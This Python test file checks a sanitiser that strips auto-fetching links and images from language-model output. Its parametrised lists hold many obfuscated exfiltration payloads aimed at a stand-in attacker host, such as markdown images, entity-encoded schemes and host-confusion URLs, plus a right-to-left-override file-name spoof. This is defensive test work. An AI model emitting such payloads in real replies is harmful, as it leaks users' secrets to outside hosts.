"""What a language model writes shows no picture and no link that fetches something by itself."""

import html
import re

import pytest

from parley.bot.spoken import spoken
from tests.linear import assert_linear

HOSTILE = [
    "![x](https://evil.com/?q=secret)",
    "[x](https://evil.com/?q=secret)",
    "[x](<https://evil.com/?q=secret>)",
    '[x](https://evil.com/?q=secret "title")',
    "[![x](https://evil.com/?q=secret)](https://evil.com/?q=secret)",
    "<https://evil.com/?q=secret>",
    "see https://evil.com/?q=secret.",
    "看这里https://evil.com/?q=secret",
    "1https://evil.com/?q=secret",
    "_https://evil.com/?q=secret",
    "HTTPS://evil.com/?q=secret",
    "https:/evil.com/?q=secret",
    "[a]: https://evil.com/?q=secret\n[a]",
    "`https://evil.com/?q=secret`",
    "\\`https://evil.com/?q=secret\\`",
    "``` https://evil.com/?q=secret ```",
    "```\n```\nhttps://evil.com/?q=secret\n```",
    "~~~\n```\n~~~\nhttps://evil.com/?q=secret\n```\n",
    "````\n```\nhttps://evil.com/?q=secret\n```",
    "```a\n```b\nhttps://evil.com/?q=secret\n```",
    "```https://evil.com/?q=secret\nx\n```",
    "```sh https://evil.com/?q=secret\nx\n```",
    "ftp://evil.com/?q=secret",
    "https://docs.example.com.evil.com/?q=secret",
    "https://docs.example.com@evil.com/?q=secret",
    "https://evil.com\\.docs.example.com/?q=secret",
]


MARKED = [
    "https:*//evil.com/?q=secret*",
    "https:**/**/evil.com/x",
    "https://**evil.com/x**",
    "ht**tps://evil.com/x**",
    "**h**ttps://evil.com",
    "htt_ps_://evil.com",
    "htt~~ps~~://evil.com/x",
    "`https:`//evil.com/x",
    "https://```\\evil.com\n```",
    "https:\\/\\/evil.com/x",
    "https://\\evil.com/x",
    "ht\u200btps://evil.com/x",
    "https&#58;//evil.com/x",
    "https&#x3A;&#x2f;&sol;evil.com/x",
    "htt&#112;s&colon;//evil.com/x",
    "[a](https:\\/\\/evil.com/x)",
    "https[:](x)//evil.com/x",
    "https:[//evil.com/x](a)",
    "https:[//evil.com/x](https://docs.example.com)",
    "https[://evil.com/x](https://docs.example.com)",
    "w**ww.evil.com/x**",
    "www&#46;evil.com/x",
    "www.**evil.com**/x",
    "a" * 21 + "https://evil.com/x",
    "a" * 200 + "https://evil.com/x",
    "https://'@evil.com/?q=secret",
    'https://"@evil.com/?q=secret',
    "https://|@evil.com/?q=secret",
    "https://]@evil.com/x",
    "https://、@evil.com/x",
    "h" + "*" * 100 + "ttps://evil.com/x",
]


@pytest.mark.parametrize("text", MARKED)
def test_marks_and_entities_hide_no_address(text: str) -> None:
    shown = html.unescape(spoken(text, ("docs.example.com",)).text)
    shown = shown.replace("https://docs.example.com", "")
    outside = re.sub(r"(`+)[^`]*\1(?!`)", "code", shown)
    for each in (shown, outside):
        assert not re.search(r"[a-z]:/+\S", re.sub(r"[*_~`|\\\u200b\[\]]", "", each), re.IGNORECASE), shown
    assert not re.search(r"www\.", re.sub(r"[*_~`|\\\u200b]", "", outside)), shown
    assert "evil.com" in shown


def test_addresses_are_found_in_linear_time() -> None:
    for part in ("a", "a*", "*", "w*", "ht&#112;", "https:", "https:/*", "[", "`", "a-"):
        assert_linear(spoken, lambda size, part=part: part * size, small=2_000, large=10_000)


@pytest.mark.parametrize("text", HOSTILE)
def test_an_address_of_another_host_has_no_scheme(text: str) -> None:
    shown = spoken(text, ("docs.example.com",)).text
    assert not re.search(r"(https?|ftp):/", shown, re.IGNORECASE), shown
    assert "![" not in shown


@pytest.mark.parametrize(
    "text",
    [
        "[the guide](https://docs.example.com/a?b=c)",
        "https://docs.example.com/a",
        "https://a.docs.example.com",
        "```sh\ncurl https://any.example.org\n```",
        "Text.\n```\nhttps://any.example.org\n```\nMore **text**.",
        "see `docs`: a/b, **http:** and http://\nor *x*: // y",
        "**see** https://docs.example.com/a and [a/b](https://docs.example.com/a)",
        "1:2, a://, :// and **bold** `code`",
    ],
)
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert spoken(text, ("docs.example.com",)).text == text


@pytest.mark.parametrize("text", ["www.evil.com/?q=1", "看www.evil.com/?q=1", "[www.evil.com/?q=1](https://a.b)"])
def test_an_address_without_a_scheme_is_code(text: str) -> None:
    assert "`www.evil.com/?q=1`" in spoken(text).text


def test_a_link_keeps_its_label_and_its_address_as_text() -> None:
    assert spoken("see [the page](https://evil.com/a)").text == "see the page (`evil.com/a`)"


def test_a_text_reads_as_it_is_written() -> None:
    assert spoken("open invoice\u202efdp.exe\n```\nrm \u2066x\u2069\n```").text == "open invoicefdp.exe\n```\nrm x\n```"
